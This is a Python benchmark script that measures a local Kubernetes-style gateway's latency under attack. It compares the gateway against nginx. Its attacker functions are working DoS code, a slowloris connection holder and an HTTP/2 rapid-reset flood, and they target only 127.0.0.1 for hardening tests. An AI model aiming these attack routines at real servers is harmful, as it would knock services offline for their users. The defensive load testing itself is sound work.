"""Gateway under attack: a normal client's p99 while slowloris and an HTTP/2 rapid-reset flood run.

Not part of the test suite. Everything targets 127.0.0.1, and the whole attack phase is bounded
(30 s by default, --seconds):

    python benchmarks/gateway/attack.py               # about two minutes with nginx as the peer
    python benchmarks/gateway/attack.py --peer none   # skiff only, about a minute

What runs:
- a real `skiff up` (temporary home, free loopback ports) serving the Knative service `hello`
  (hello-openshift), as users run it: the API server and controllers in the platform process,
  the router and the gateway in the data-plane process it supervises (python -m skiff.dataplane);
- the normal client: a fixed-rate open loop (~200 requests/s over 4 keep-alive connections,
  run.py's client) through the router's HTTP port; and an API client: GET of one ConfigMap at
  ~50/s over one keep-alive HTTPS connection with the bearer token;
- first unloaded, then while an attacker process (nice 10, so that on a small machine it takes
  CPU from the gateway less than from nobody) runs both attacks at once:
  - slowloris: 200 connections on the HTTP port, each sending a request line and then one header
    line a second, never the end; reconnecting when the gateway closes them;
  - HTTP/2 rapid reset: TLS + ALPN h2 on the HTTPS port (edge route), HEADERS + RST_STREAM pairs in
    batches of 100, as fast as it can, reconnecting after each GOAWAY.
It prints p50/p99 for both clients in both phases, the ratios, and what the attacker saw (408s,
closes, GOAWAYs and RST_STREAMs by error code, pairs sent). Goal (from the hardening issue): the
normal client's p99 under attack within 2x of unloaded. --json FILE also writes the figures.

The peer (--peer nginx, the default; --peer none skips it): after skiff is stopped, the same two
phases against nginx (Debian's, not installed by this script) as the equivalent front proxy, so
that the figure can be judged against a peer on the same machine in the same session:
- the backend: hello-openshift as run.py starts it (python -m skiff.node.images.hello_openshift);
- nginx from a generated config: worker_processes = --dataplane-workers, a keep-alive upstream
  to the backend, HTTP on one port and TLS with HTTP/2 on another (`listen ... ssl http2`, nginx
  1.22 has no `http2 on`), a certificate from a throwaway CA. Every timeout and HTTP/2 limit
  is left at nginx's default: client_header_timeout 60s, keepalive_timeout 75s,
  keepalive_requests 1000 (a GOAWAY after 1,000 streams on an HTTP/2 connection),
  http2_max_concurrent_streams 128, large_client_header_buffers 4 8k, send_timeout 60s;
- the same normal client on nginx's HTTP port, and in place of the API client a TLS client at
  the same rate (GET / over one keep-alive HTTPS connection to nginx's TLS port), so that the
  measuring process does the same work;
- the same attacker: slowloris on nginx's HTTP port, rapid reset on its TLS port.
It prints the same table for nginx, the two p99 ratios side by side, skiff's attacked p99 over
nginx's, and both runs' "late" counts. With the peer the whole run takes about two minutes.
"""

from __future__ import annotations

import argparse
import asyncio
import contextlib
import json
import os
import shutil
import signal
import socket
import ssl
import subprocess
import sys
import tempfile
import time
from pathlib import Path
from typing import Any

import psutil

sys.path.insert(0, str(Path(__file__).resolve().parent))
from run import NGINX_CONF as NGINX_RUN_CONF  # noqa: E402
from run import _pct, fixed_rate, free_port, wait_port  # noqa: E402

DOMAIN = "apps.127.0.0.1.sslip.io"
HOST = f"hello-default.{DOMAIN}"


# --- the attacker (its own process) -------------------------------------------------------------

async def slowloris(port: int, conns: int, until: float, stats: dict[str, Any]) -> None:
    async def one() -> None:
        while time.monotonic() < until:
            try:
                r, w = await asyncio.open_connection("127.0.0.1", port)
            except OSError:
                await asyncio.sleep(0.1)
                continue
            stats["loris_connections"] += 1
            try:
                w.write(f"GET / HTTP/1.1\r\nhost: {HOST}\r\n".encode())
                while time.monotonic() < until:
                    w.write(b"x-loris: 1\r\n")
                    try:
                        data = await asyncio.wait_for(r.read(4096), 1.0)
                    except TimeoutError:
                        continue
                    if data.startswith(b"HTTP/1.1 408"):
                        stats["loris_408"] += 1
                    elif data.startswith(b"HTTP/"):
                        stats["loris_other_response"] += 1
                    if not data or data.startswith(b"HTTP/"):
                        stats["loris_closed_by_server"] += 1
                        break
                else:
                    stats["loris_open_at_end"] += 1
            except OSError:
                stats["loris_closed_by_server"] += 1
            finally:
                w.close()
    await asyncio.gather(*(one() for _ in range(conns)))


async def rapid_reset(port: int, until: float, stats: dict[str, Any]) -> None:
    import h2.config
    import h2.connection
    import h2.errors
    import h2.exceptions
    ctx = ssl.create_default_context()
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    ctx.set_alpn_protocols(["h2"])
    codes: dict[str, int] = stats.setdefault("h2_codes", {})  # type: ignore[arg-type]

    def _code(b: bytes) -> str:
        c = int.from_bytes(b, "big")
        try:
            return h2.errors.ErrorCodes(c).name
        except ValueError:
            return str(c)
    while time.monotonic() < until:
        try:
            r, w = await asyncio.open_connection("127.0.0.1", port, ssl=ctx, server_hostname=HOST)
        except OSError:
            await asyncio.sleep(0.1)
            continue
        stats["h2_connections"] += 1
        conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
        conn.initiate_connection()
        w.write(conn.data_to_send())
        closed = asyncio.Event()

        async def reader(r: asyncio.StreamReader = r, closed: asyncio.Event = closed) -> None:
            # frame headers only (9 bytes each, payloads skipped): GOAWAY and RST_STREAM are
            # counted by error code; a GOAWAY ends the connection for the attacker too
            buf = b""
            goaway = False
            try:
                while True:
                    data = await r.read(65536)
                    if not data:
                        break
                    buf += data
                    i = 0
                    while len(buf) - i >= 9:
                        n = int.from_bytes(buf[i:i + 3], "big")
                        if len(buf) - i < 9 + n:
                            break
                        kind = buf[i + 3]
                        if kind == 7:                                   # GOAWAY
                            code = _code(buf[i + 13:i + 17])
                            stats["h2_goaway_seen"] += 1
                            codes["goaway " + code] = codes.get("goaway " + code, 0) + 1
                            goaway = True
                        elif kind == 3:                                 # RST_STREAM
                            code = _code(buf[i + 9:i + 13])
                            codes["rst " + code] = codes.get("rst " + code, 0) + 1
                        elif kind == 1:                                 # HEADERS
                            stats["h2_response_headers"] += 1
                        i += 9 + n
                    buf = buf[i:]
                    if goaway:
                        closed.set()
            except OSError:
                pass
            if not goaway:
                stats["h2_closed_without_goaway"] += 1
            closed.set()
        rt = asyncio.ensure_future(reader())
        try:
            while time.monotonic() < until and not closed.is_set():
                try:
                    for _ in range(100):
                        sid = conn.get_next_available_stream_id()
                        conn.send_headers(sid, [(":method", "GET"), (":path", "/"),
                                                (":scheme", "https"), (":authority", HOST)],
                                          end_stream=True)
                        conn.reset_stream(sid, h2.errors.ErrorCodes.CANCEL)
                        stats["h2_pairs"] += 1
                except h2.exceptions.H2Error:
                    break
                w.write(conn.data_to_send())
                try:
                    await asyncio.wait_for(w.drain(), 1.0)
                except TimeoutError:
                    stats["h2_write_stalled"] += 1      # the server stopped reading for 1 s
                    break
                except OSError:
                    break
                await asyncio.sleep(0)
        finally:
            w.close()
            rt.cancel()
            with contextlib.suppress(BaseException):
                await rt


def attacker(cfg: dict[str, Any]) -> None:
    os.nice(10)
    until = time.monotonic() + cfg["seconds"]
    stats: dict[str, Any] = {k: 0 for k in (
        "loris_connections", "loris_408", "loris_other_response", "loris_closed_by_server",
        "loris_open_at_end", "h2_connections", "h2_goaway_seen", "h2_closed_without_goaway",
        "h2_response_headers", "h2_write_stalled", "h2_pairs")}

    async def main() -> None:
        await asyncio.gather(slowloris(cfg["http"], cfg["loris"], until, stats),
                             rapid_reset(cfg["https"], until, stats))
    with contextlib.suppress(KeyboardInterrupt):
        asyncio.run(main())
    t = os.times()
    stats["cpu_s"] = t.user + t.system
    print(json.dumps(stats), flush=True)


# --- the API client (against nginx: a TLS client in its place) --------------------------------

async def api_rate(port: int, token: str | None, ca: Path, rate: float, seconds: float,
                   path: str = "/api/v1/namespaces/default/configmaps/bench",
                   sni: str = "127.0.0.1") -> dict[str, float]:
    """GET one path at a fixed rate over one keep-alive HTTPS connection (one at a time:
    an interval that finds the previous request still out is counted late and skipped)."""
    import httptools
    ctx = ssl.create_default_context(cafile=str(ca))
    r, w = await asyncio.open_connection("127.0.0.1", port, ssl=ctx, server_hostname=sni)
    auth = f"authorization: Bearer {token}\r\n" if token else ""
    req = (f"GET {path} HTTP/1.1\r\nhost: {sni}\r\n{auth}accept: application/json\r\n\r\n"
           ).encode()
    lat: list[float] = []
    done = asyncio.Event()

    class P:
        def on_message_complete(self) -> None:
            done.set()
    late = 0
    start = time.perf_counter()
    n = int(rate * seconds)
    for i in range(n):
        due = start + i / rate
        now = time.perf_counter()
        if now < due:
            await asyncio.sleep(due - now)
        elif now - due > 1 / rate:
            late += 1
            continue
        parser = httptools.HttpResponseParser(P())
        done.clear()
        t0 = time.perf_counter()
        w.write(req)
        while not done.is_set():
            parser.feed_data(await r.read(65536))
        lat.append(time.perf_counter() - t0)
    w.close()
    lat.sort()
    return {"n": len(lat), "p50_ms": _pct(lat, 50) * 1e3, "p99_ms": _pct(lat, 99) * 1e3,
            "late": late}


# --- processes ----------------------------------------------------------------------------------

def stop(p: subprocess.Popen[bytes]) -> None:
    """End one process this script started, by its PID (SIGTERM, then SIGKILL)."""
    if p.poll() is None:
        p.send_signal(signal.SIGTERM)
        try:
            p.wait(30)
        except subprocess.TimeoutExpired:
            p.kill()
            p.wait(5)


def tree_cpu(roots: list[int]) -> float:
    """CPU seconds (user + system) of these processes and all their descendants, from /proc."""
    parent: dict[int, int] = {}
    cpu: dict[int, float] = {}
    tick = os.sysconf("SC_CLK_TCK")
    for d in os.listdir("/proc"):
        if not d.isdigit():
            continue
        try:
            with open(f"/proc/{d}/stat") as f:
                fields = f.read().rsplit(")", 1)[1].split()
        except OSError:
            continue
        parent[int(d)] = int(fields[1])
        cpu[int(d)] = (int(fields[11]) + int(fields[12])) / tick
    total = 0.0
    for pid in cpu:
        q = pid
        while q > 1:
            if q in roots:
                total += cpu[pid]
                break
            q = parent.get(q, 0)
    return total


def cpu_wait_ms(pids: list[int]) -> float:
    """Milliseconds these processes' threads have spent runnable but waiting for a CPU
    (run_delay, /proc/PID/task/TID/schedstat; 0 where the kernel keeps no schedstats)."""
    total = 0
    for pid in pids:
        try:
            tids = os.listdir(f"/proc/{pid}/task")
        except OSError:
            continue
        for tid in tids:
            try:
                with open(f"/proc/{pid}/task/{tid}/schedstat") as f:
                    total += int(f.read().split()[1])
            except (OSError, IndexError, ValueError):
                continue
    return total / 1e6


def wait_http(port: int, timeout: float, what: str) -> None:
    deadline = time.monotonic() + timeout
    while True:
        try:
            with socket.create_connection(("127.0.0.1", port), 2) as s:
                s.sendall(f"GET / HTTP/1.1\r\nhost: {HOST}\r\nconnection: close\r\n\r\n"
                          .encode())
                if s.recv(64).startswith(b"HTTP/1.1 200"):
                    return
        except OSError:
            pass
        if time.monotonic() > deadline:
            raise RuntimeError(f"{what} never answered")
        time.sleep(0.2)


def measure(http_port: int, second: dict[str, Any], seconds: float, rate: float,
            second_rate: float) -> dict[str, Any]:
    """The normal client on http_port and the second client (API or TLS GET) at once."""
    async def both() -> tuple[dict[str, float], dict[str, float]]:
        a, b = await asyncio.gather(
            fixed_rate(http_port, rate, seconds, HOST, None, conns=4),
            api_rate(second["port"], second.get("token"), second["ca"], second_rate, seconds,
                     **second.get("kw", {})))
        return a, b
    r0 = os.times()
    gw, other = asyncio.run(both())
    r1 = os.times()
    return {"gateway": gw, second["name"]: other,
            "client_cpu_s": (r1.user - r0.user) + (r1.system - r0.system)}


def phases(args: argparse.Namespace, http_port: int, https_port: int, second: dict[str, Any],
           server_pids: list[int], wait_pids: list[int]) -> dict[str, Any]:
    """Warm-up, the unloaded phase, then the attacked phase with the attacker process.
    wait_pids: the processes serving the second client, whose wait for a CPU is reported."""
    def measured() -> dict[str, Any]:
        w0 = cpu_wait_ms(wait_pids)
        r = measure(http_port, second, args.measure, args.rate, args.api_rate)
        r["server_cpu_wait_ms"] = cpu_wait_ms(wait_pids) - w0
        return r
    measure(http_port, second, 2.0, args.rate, args.api_rate)              # warm-up
    unloaded = measured()
    acfg = {"http": http_port, "https": https_port, "seconds": args.seconds, "loris": args.loris}
    c0 = tree_cpu(server_pids)
    atk = subprocess.Popen([sys.executable, __file__, "--attacker", json.dumps(acfg)],
                           stdout=subprocess.PIPE)
    try:
        time.sleep(3.0)                               # let both attacks get going
        attacked = measured()
        out, _ = atk.communicate(timeout=args.seconds + 10)
    finally:
        stop(atk)
    server_cpu = tree_cpu(server_pids) - c0
    stats = json.loads(out.decode().strip().splitlines()[-1])
    name = second["name"]
    return {
        "unloaded": unloaded, "attacked": attacked, "attacker": stats,
        "server_cpu_s_during_attack": server_cpu,
        "ratios": {
            "gateway_p99": attacked["gateway"]["p99_ms"] / unloaded["gateway"]["p99_ms"],
            "gateway_p50": attacked["gateway"]["p50_ms"] / unloaded["gateway"]["p50_ms"],
            f"{name}_p99": attacked[name]["p99_ms"] / unloaded[name]["p99_ms"],
        },
    }


# --- skiff ---------------------------------------------------------------------------------------

def start_skiff(tmp: Path, workers: int = 1) -> tuple[subprocess.Popen[bytes], dict[str, int], Path]:
    """A real `skiff up` in tmp serving the ksvc `hello` (and a ConfigMap `bench` for the API
    client), once hello answers through the router: (the process, its ports, its home). The
    caller stops it (stop())."""
    home = tmp / "home"
    ports = {"api": free_port(), "--http-port": free_port(), "--https-port": free_port(),
             "--local-gateway-port": free_port()}
    env = dict(os.environ, SKIFF_HOME=str(home), KUBECONFIG=str(home / "kubeconfig"))
    cmd = [sys.executable, "-m", "skiff.cli.main", "up", "--home", str(home), "--api-port",
           str(ports["api"])]
    for k, v in ports.items():
        if k.startswith("--"):
            cmd += [k, str(v)]
    cmd += ["--dataplane-workers", str(workers)]
    up = subprocess.Popen(cmd, stdout=subprocess.DEVNULL, stderr=(tmp / "up.log").open("wb"),
                          env=env)
    try:
        deadline = time.monotonic() + 30
        while not (home / "kubeconfig").exists():
            if time.monotonic() > deadline or up.poll() is not None:
                raise RuntimeError("skiff up did not start: " + (tmp / "up.log").read_text())
            time.sleep(0.1)
        kc = ["kubectl", "--kubeconfig", str(home / "kubeconfig")]
        subprocess.run([*kc, "create", "configmap", "bench", "--from-literal=k=v"], check=True,
                       capture_output=True, timeout=60)
        subprocess.run([sys.executable, "-m", "skiff.cli.main", "service", "create", "hello",
                        "--image", "docker.io/openshift/hello-openshift"], check=True,
                       capture_output=True, timeout=90, env=env)
        wait_http(ports["--http-port"], 30, "hello through skiff")
    except BaseException:
        stop(up)
        raise
    return up, ports, home


def api_client(ports: dict[str, int], home: Path) -> dict[str, Any]:
    """The second client's settings: GET of ConfigMap `bench` with the kubeconfig's token."""
    return {"name": "api", "port": ports["api"], "ca": home / "pki" / "ca.crt",
            "token": (home / "token").read_text().strip()}


def run_skiff(args: argparse.Namespace, tmp: Path) -> dict[str, Any]:
    up, ports, home = start_skiff(tmp, args.dataplane_workers)
    try:
        # the API server is in the platform process itself (the data plane and pods are its
        # children)
        return phases(args, ports["--http-port"], ports["--https-port"], api_client(ports, home),
                      [up.pid], [up.pid])
    finally:
        stop(up)


# --- nginx, the peer ----------------------------------------------------------------------------

# run.py's config plus `http2` on the TLS listener; no timeout or HTTP/2 limit is set, so
# nginx's defaults apply (see the module docstring)
NGINX_CONF = NGINX_RUN_CONF.replace(" ssl;", " ssl http2;")
assert NGINX_CONF != NGINX_RUN_CONF


def nginx_log_summary(path: Path) -> dict[str, int]:
    """nginx's error log (level warn and up) as message -> count, connection numbers dropped."""
    import re
    counts: dict[str, int] = {}
    if not path.exists():
        return counts
    for line in path.read_text(errors="replace").splitlines():
        m = re.search(r"\[(\w+)\] \d+#\d+: (?:\*\d+ )?(.*?)(?:, client: .*)?$", line)
        if m:
            key = f"[{m.group(1)}] {re.sub(r'[0-9]+', 'N', m.group(2))}"
            counts[key] = counts.get(key, 0) + 1
    return dict(sorted(counts.items(), key=lambda kv: -kv[1]))


def run_nginx(args: argparse.Namespace, tmp: Path) -> dict[str, Any]:
    from skiff.core.clock import utcnow
    from skiff.core.pki import issue, make_ca

    d = tmp / "nginx"
    d.mkdir()
    now = utcnow()
    ca, ca_key = make_ca("attack-bench-ca", now)
    cert, key = issue(ca, ca_key, HOST, [HOST, f"*.{DOMAIN}", "localhost"], ["127.0.0.1"], now)
    for name, data in (("ca.crt", ca), ("tls.crt", cert), ("tls.key", key)):
        (d / name).write_bytes(data)
    for sub in ("body", "proxy", "fastcgi", "uwsgi", "scgi"):
        (d / sub).mkdir()
    ports = {k: free_port() for k in ("backend", "http", "https")}
    procs: list[subprocess.Popen[bytes]] = []
    try:
        procs.append(subprocess.Popen(
            [sys.executable, "-m", "skiff.node.images.hello_openshift"],
            env=dict(os.environ, PORT=str(ports["backend"])), stdout=subprocess.DEVNULL))
        wait_port(ports["backend"])
        (d / "nginx.conf").write_text(NGINX_CONF.format(
            workers=args.dataplane_workers, dir=d, backend=ports["backend"], http=ports["http"],
            https=ports["https"], cert=d / "tls.crt", key=d / "tls.key"))
        ngx = subprocess.Popen(["nginx", "-c", str(d / "nginx.conf"), "-p", str(d)],
                               stderr=(d / "nginx-stderr.log").open("wb"))
        procs.append(ngx)
        wait_port(ports["http"])
        wait_port(ports["https"])
        wait_http(ports["http"], 10, "hello through nginx")
        second = {"name": "tls_get", "port": ports["https"], "ca": d / "ca.crt",
                  "kw": {"path": "/", "sni": HOST}}
        workers = [c.pid for c in psutil.Process(ngx.pid).children()]
        res = phases(args, ports["http"], ports["https"], second,
                     [ngx.pid, procs[0].pid], [ngx.pid, *workers])
        res["nginx_version"] = subprocess.run(["nginx", "-v"], capture_output=True,
                                              text=True).stderr.strip()
        return res
    finally:
        for p in reversed(procs):
            stop(p)
        if (d / "nginx-error.log").exists():
            shutil.copy(d / "nginx-error.log", tmp / "nginx-error.log")


# --- main ----------------------------------------------------------------------------------------

def main() -> int:
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("--seconds", type=float, default=30.0, help="attack phase bound")
    ap.add_argument("--measure", type=float, default=8.0, help="seconds measured per phase")
    ap.add_argument("--rate", type=float, default=200.0)
    ap.add_argument("--api-rate", type=float, default=50.0)
    ap.add_argument("--loris", type=int, default=200)
    ap.add_argument("--dataplane-workers", type=int, default=1,
                    help="skiff up --dataplane-workers (data-plane processes, SO_REUSEPORT); "
                         "nginx gets as many worker_processes")
    ap.add_argument("--peer", choices=("nginx", "none"), default="nginx",
                    help="run the same phases against nginx after skiff (default nginx)")
    ap.add_argument("--peer-only", action="store_true", help="nginx only (a smoke test)")
    ap.add_argument("--json", type=Path)
    ap.add_argument("--attacker", help=argparse.SUPPRESS)
    args = ap.parse_args()
    if args.attacker:
        attacker(json.loads(args.attacker))
        return 0
    if args.peer_only:
        args.peer = "nginx"
    if args.peer == "nginx" and shutil.which("nginx") is None:
        print("nginx is missing (apt-get install -y nginx), or run with --peer none",
              file=sys.stderr)
        return 2
    tmp = Path(tempfile.mkdtemp(prefix="skiff-attack-"))
    try:
        report: dict[str, Any] = {
            "machine": {"cpus": os.cpu_count(), "load_start": os.getloadavg()},
            "settings": vars(args) | {"json": str(args.json)}}
        if not args.peer_only:
            report["skiff"] = run_skiff(args, tmp)
        if args.peer == "nginx":
            report["nginx"] = run_nginx(args, tmp)
            report["nginx"]["error_log"] = nginx_log_summary(tmp / "nginx-error.log")
        report["machine"]["load_end"] = os.getloadavg()
        print_report(report)
        if args.json:
            args.json.write_text(json.dumps(report, indent=2))
        return 0
    finally:
        shutil.rmtree(tmp, ignore_errors=True)


def print_attacker(who: str, a: dict[str, Any]) -> None:
    codes = ", ".join(f"{k} {v}" for k, v in sorted(a.get("h2_codes", {}).items())) or "none"
    print(f"attacker vs {who}: slowloris {a['loris_connections']} connections, "
          f"{a['loris_408']} got 408, {a['loris_other_response']} another response, "
          f"{a['loris_closed_by_server']} closed by the server, {a['loris_open_at_end']} still "
          f"open at the end; rapid reset {a['h2_pairs']} HEADERS+RST_STREAM pairs on "
          f"{a['h2_connections']} connections ({a['h2_pairs'] / max(1, a['h2_connections']):.0f} "
          f"a connection), {a['h2_goaway_seen']} GOAWAYs, {a['h2_closed_without_goaway']} closed "
          f"without one, {a['h2_write_stalled']} write stalls >1 s, "
          f"{a['h2_response_headers']} response HEADERS; frames received: {codes}")


def print_report(r: dict[str, Any]) -> None:
    s = r["settings"]
    m = r["machine"]
    print(f"\n{m['cpus']} CPUs, load {tuple(round(x, 2) for x in m['load_start'])} at the start, "
          f"{tuple(round(x, 2) for x in m['load_end'])} at the end; normal client "
          f"~{s['rate']:.0f} req/s over 4 keep-alive connections, second client ~"
          f"{s['api_rate']:.0f}/s over one HTTPS connection (skiff: API GET; nginx: GET / on "
          f"its TLS port); {s['measure']:.0f} s measured per phase, attack {s['seconds']:.0f} s")
    label = {"gateway": "normal", "api": "API GET", "tls_get": "TLS GET"}
    for who in ("skiff", "nginx"):
        if who not in r:
            continue
        x = r[who]
        print(f"\n{who + ' (' + x.get('nginx_version', 'gateway') + ')':34s}"
              f"{'p50 ms':>9s}{'p99 ms':>9s}{'n':>7s}{'late':>6s}")
        second = "api" if who == "skiff" else "tls_get"
        for phase in ("unloaded", "attacked"):
            for c in ("gateway", second):
                f = x[phase][c]
                n = f.get("n", int(f.get("rate", 0) * s["measure"]))
                print(f"{phase + ' ' + label[c]:34s}{f['p50_ms']:9.2f}{f['p99_ms']:9.2f}{n:7d}"
                      f"{f['late']:6d}")
        print_attacker(who, x["attacker"])
        print(f"{who}: the {label[second]} server's processes waited for a CPU "
              f"{x['unloaded'].get('server_cpu_wait_ms', 0):.1f} ms unloaded, "
              f"{x['attacked'].get('server_cpu_wait_ms', 0):.1f} ms attacked "
              f"({s['measure']:.0f} s each; schedstat run_delay)")
        q = x["ratios"]
        print(f"{who}: normal client p99 under attack {q['gateway_p99']:.2f}x unloaded (goal "
              f"<= 2x: {'meets' if q['gateway_p99'] <= 2 else 'MISSES'}); p50 "
              f"{q['gateway_p50']:.2f}x; {label[second]} p99 {q[second + '_p99']:.2f}x; "
              f"server-side CPU during the attack {x['server_cpu_s_during_attack']:.1f} s, "
              f"attacker CPU {x['attacker'].get('cpu_s', 0):.1f} s, measuring client CPU "
              f"{x['attacked']['client_cpu_s']:.1f} s in the attacked phase")
        if who == "nginx" and x.get("error_log"):
            top = "; ".join(f"{k} x{v}" for k, v in list(x["error_log"].items())[:6])
            print(f"nginx error log: {top}")
    if "skiff" in r and "nginx" in r:
        sk, ng = r["skiff"], r["nginx"]
        print(f"\nside by side: p99 under attack / unloaded: skiff {sk['ratios']['gateway_p99']:.1f}x,"
              f" nginx {ng['ratios']['gateway_p99']:.1f}x; attacked p99 skiff / nginx: "
              f"{sk['attacked']['gateway']['p99_ms'] / ng['attacked']['gateway']['p99_ms']:.2f}x "
              f"({sk['attacked']['gateway']['p99_ms']:.1f} / "
              f"{ng['attacked']['gateway']['p99_ms']:.1f} ms); measuring client late (unloaded / "
              f"attacked): skiff {sk['unloaded']['gateway']['late']} / "
              f"{sk['attacked']['gateway']['late']}, nginx {ng['unloaded']['gateway']['late']} / "
              f"{ng['attacked']['gateway']['late']}")


if __name__ == "__main__":
    sys.exit(main())
